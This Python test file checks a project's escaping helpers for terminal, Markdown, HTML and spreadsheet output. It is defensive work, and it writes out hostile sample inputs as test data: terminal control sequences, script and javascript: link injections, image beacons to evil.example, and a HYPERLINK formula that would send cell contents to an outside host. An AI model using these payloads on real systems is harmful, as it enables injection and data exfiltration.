"""The escaping helpers, one per output format: nothing written by someone else becomes markup, a formula or a
terminal control sequence, and what the reader sees is the text itself (control characters as escapes)."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from cpss_advisor.core.escape import cell, html, markdown, markdown_code, terminal, visible

CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f]")
#: Text as an attacker would write it: markup characters, control characters, line breaks and letters.
hostile_text = st.text(st.one_of(st.sampled_from(list("\\`*_[]<>#|!&~-+=.()0123456789 \t\n\r:/\"'")),
                                 st.characters(max_codepoint=0x2FF)), max_size=60)

MD = MarkdownIt("commonmark").enable(["table", "strikethrough"])


def shown(text: str) -> str:
    """What a one-line output shows for `text`: control characters as escapes, runs of whitespace as one space."""
    return re.sub(r"[ \t\n\r]+", " ", visible(text, keep=" \t\n\r")).strip()


def _inline(src: str):
    """The inline tokens of a one-paragraph (or one-heading) Markdown document."""
    blocks = MD.parse(src)
    inlines = [t for t in blocks if t.type == "inline"]
    assert len(inlines) == 1, [t.type for t in blocks]
    return blocks, inlines[0].children or []


# --- terminal ---------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("raw, seen", [
    ("Beremia", "Beremia"),
    ("\x1b[2J\x1b[31mred", "\\x1b[2J\\x1b[31mred"),                 # clear screen, colour
    ("\x1b]0;title\x07", "\\x1b]0;title\\x07"),                      # OSC: set the window title
    ("\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\", "\\x1b]8;;http://x\\x1b\\link\\x1b]8;;\\x1b\\"),  # OSC 8 link
    ("a\rb\nc\td", "a\\rb\\nc\\td"),
    ("nul\x00del\x7fcsi\x9b", "nul\\x00del\\x7fcsi\\x9b"),
    ("Côte d’Ivoire", "Côte d’Ivoire"),
])
def test_terminal_shows_control_characters_as_escapes(raw, seen):
    assert terminal(raw) == seen


@given(hostile_text)
def test_terminal_never_emits_a_control_character(text):
    assert not CONTROL.search(terminal(text))


# --- Markdown ---------------------------------------------------------------------------------------------------

@pytest.mark.parametrize("raw", [
    '<img src="http://evil.example/x.png">', "![x](http://evil.example/x.png)", "[click](javascript:alert(1))",
    "<script>alert(1)</script>", "Land\n# Heading", "Land\n\n---\n", "# Land", "1. Land", "- Land", "+ Land",
    "> quote", "    code", "```\ncode\n```", "a | b", "*bold* _it_ ~~gone~~", "&lt;b&gt; &amp;", "<http://x.example>",
    "[x]: http://evil.example", "trailing backslash \\", "hard break  \nnext", "=====", "x\x1b[31my\x00z",
])
def test_markdown_renders_as_the_text_itself(raw):
    blocks, inline = _inline("### " + markdown(raw))
    assert [t.type for t in blocks] == ["heading_open", "inline", "heading_close"]
    assert [t.type for t in inline] == ["text"], inline
    assert inline[0].content == shown(raw)
    blocks, inline = _inline(markdown(raw))  # at the start of a line too
    assert [t.type for t in blocks] == ["paragraph_open", "inline", "paragraph_close"]
    assert [t.type for t in inline] == ["text"] and inline[0].content == shown(raw)


@settings(max_examples=300)
@given(hostile_text.filter(lambda t: shown(t)))
def test_markdown_of_any_text_is_one_text_node(text):
    for src in ("- " + markdown(text), markdown(text), f"| {markdown(text)} |\n| --- |\n| {markdown(text)} |"):
        tokens = [t for b in MD.parse(src) for t in [b, *(b.children or [])]]
        assert {t.type for t in tokens} <= {"bullet_list_open", "bullet_list_close", "list_item_open",
                                            "list_item_close", "paragraph_open", "paragraph_close", "inline",
                                            "text", "table_open", "table_close", "thead_open", "thead_close",
                                            "tbody_open", "tbody_close", "tr_open", "tr_close", "th_open",
                                            "th_close", "td_open", "td_close"}, src
        texts = [t.content for t in tokens if t.type == "text"]
        assert texts and all(x == shown(text) for x in texts), (src, texts)
    assert "\n" not in markdown(text) and not CONTROL.search(markdown(text))


@settings(max_examples=300)
@given(hostile_text.filter(lambda t: shown(t).strip()))
def test_markdown_code_is_one_code_span(text):
    for src, table in ((f"Input {markdown_code(text)}.", False),
                       (f"| a |\n| --- |\n| {markdown_code(text, table=True)} |", True)):
        tokens = [t for b in MD.parse(src) for t in (b.children or [])]
        code = [t for t in tokens if t.type == "code_inline"]
        assert len(code) == 1, (src, tokens)
        # A code span drops one space at each end when both are there, and shows runs of spaces as they are.
        assert code[0].content.strip(" ") == shown(text).strip(" "), src


# --- HTML and spreadsheet cells -----------------------------------------------------------------------------------

def test_html_escapes_markup_and_control_characters():
    assert html('<b onclick="x">\x00\x1b[31m & \'') == "&lt;b onclick=&quot;x&quot;&gt;\\x00\\x1b[31m &amp; &#x27;"
    assert html("line\nbreak\ttab") == "line\nbreak\ttab"


@given(hostile_text)
def test_html_and_cell_never_emit_a_control_character_but_line_breaks_and_tabs(text):
    for out in (html(text), cell(text)):
        assert not CONTROL.search(out.replace("\n", "").replace("\t", ""))
    assert "<" not in html(text) and '"' not in html(text)


def test_cell_keeps_text_and_neutralises_the_workbook_escapes():
    assert cell('=HYPERLINK("http://x.example/?"&A1,"open")') == '=HYPERLINK("http://x.example/?"&A1,"open")'
    assert cell("two\nlines\tand a tab") == "two\nlines\tand a tab"
    assert cell("nul\x00esc\x1b[31m") == "nul\\x00esc\\x1b[31m"
    # Excel reads _x001B_ in a cell as ESC; its underscore is written as _x005F_ so that the text shows as typed.
    assert cell("a_x001B_b _x0041_ x_y") == "a_x005F_x001B_b _x005F_x0041_ x_y"
